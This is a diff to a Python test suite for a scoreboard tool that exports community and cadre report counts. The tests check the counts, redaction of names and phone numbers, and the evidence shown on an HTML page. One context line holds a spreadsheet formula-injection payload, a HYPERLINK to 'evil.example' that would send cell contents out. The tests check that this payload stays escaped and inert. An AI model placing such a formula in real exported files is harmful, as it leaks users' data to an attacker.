@@ -56,7 +56,7 @@ def _sheet_cells(path: Path, sheet: int = 1) -> list[ElementTree.Element]:
     return list(root.iter(f"{_NS}c"))
 
 
-def test_cli_writes_csv_xlsx_html_in_english(workspace: Path, tmp_path: Path,
+def test_cli_writes_csv_xlsx_html_in_english(workspace: Path, layers: dict[str, object], tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str]) -> None:
     files = {k: tmp_path / f"board.{k}" for k in ("csv", "xlsx", "html")}
     code = main(["scoreboard", str(workspace), "--from", START, "--to", END, "--lang", "en", "--csv",
@@ -71,6 +71,17 @@ def test_cli_writes_csv_xlsx_html_in_english(workspace: Path, tmp_path: Path,
     board = scoreboard(workspace, start=START, end=END, lang="en")
     assert [r[0] for r in rows[1:]] == list(board["community_code"])
     assert [int(r[rows[0].index("reports")]) for r in rows[1:]] == list(board["reports"])
+    # and the counts themselves, recounted here: reports of [START, END) by their grid's community
+    reports, grids = layers["reports"], layers["grids"]
+    times = reports["reported_at"]  # type: ignore[index]
+    inside = (times >= pd.Timestamp(START, tz="Asia/Shanghai")) & (times < pd.Timestamp(END, tz="Asia/Shanghai"))
+    community_of = dict(zip(grids["grid_code"], grids["community_code"]))  # type: ignore[index]
+    expected: dict[str, int] = {}
+    for grid in reports.loc[inside, "grid_code"]:  # type: ignore[union-attr]
+        if grid in community_of:
+            expected[community_of[grid]] = expected.get(community_of[grid], 0) + 1
+    counted = {r[0]: int(r[rows[0].index("reports")]) for r in rows[1:]}
+    assert {k: v for k, v in counted.items() if v} == expected and sum(expected.values()) >= 10
 
 
 def test_zh_headers_are_chinese(workspace: Path, tmp_path: Path) -> None:
@@ -114,7 +125,7 @@ def test_injection_stays_inert_and_numbers_stay_numbers(layers: dict[str, object
     rate = header.index("整改率")
     names = [row[1] for row in sheet[1:]]
     assert "'" + HOSTILE_NAME in names
-    for row, expected in zip(sheet[1:], board["rectification_rate"]):
+    for row, expected in zip(sheet[1:], board["rectification_rate"], strict=True):
         if pd.isna(expected):
             assert row[rate] == ""
         else:
@@ -130,7 +141,6 @@ def test_html_page_escapes_redacts_and_shows_evidence(layers: dict[str, object],
     board = scoreboard(layers, start=START, end=END, by="cadre")
     masked = gridmap.mask_name(board["cadre"].iloc[1])
     assert masked in html and board["cadre"].iloc[1] not in html
-    assert '"role": "evidence"' in html or "evidence" in html
     assert html.count("<tr") == len(board) + 1  # header + one row per cadre
     internal = scoreboard_html(layers, tmp_path / "internal.html", start=START, end=END, by="cadre",
                                offline=False, weeks=0, redact=False)
@@ -140,6 +150,28 @@ def test_html_page_escapes_redacts_and_shows_evidence(layers: dict[str, object],
     community = scoreboard_html(layers, tmp_path / "community.html", start=START, end=END, offline=False, weeks=0)
     assert "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;点我&quot;)" in \
         community.read_text(encoding="utf-8")
+
+
+def test_cadre_page_evidence_is_exactly_the_reports_behind_the_figures(tmp_path: Path) -> None:
+    """The hand-made case of test_scoreboard, by cadre and redacted: the evidence layer, decoded, holds exactly
+    r2, r3, r6 (overdue), r5 (reopened by a spot check) and r1, r4 (recurring), each once, and no phone number."""
+    from _compact import decode, payload_of
+    from test_scoreboard import END as HAND_END
+    from test_scoreboard import START as HAND_START
+    from test_scoreboard import hand_made_layers
+
+    from gridmap.supervision_page import PAGE_LABELS
+
+    html = scoreboard_html(hand_made_layers(), tmp_path / "cadre.html", start=HAND_START, end=HAND_END, by="cadre",
+                           offline=False, weeks=0, lang="en").read_text(encoding="utf-8")
+    found = decode(payload_of(html, "evidence"))
+    labels = PAGE_LABELS["en"]
+    ids = found["fields"][labels["id"]]
+    assert found["n"] == len(ids) == 6 and sorted(ids) == ["r1", "r2", "r3", "r4", "r5", "r6"]
+    assert dict(zip(ids, found["fields"][labels["state"]])) == {
+        "r2": labels["overdue"], "r3": labels["overdue"], "r6": labels["overdue"], "r5": labels["reopened"],
+        "r1": labels["recurring"], "r4": labels["recurring"]}
+    assert not PHONE.search(html) and "张三" not in html and "李四" not in html
 
 
 def test_chart_draws_one_line_per_community(layers: dict[str, object], tmp_path: Path) -> None:
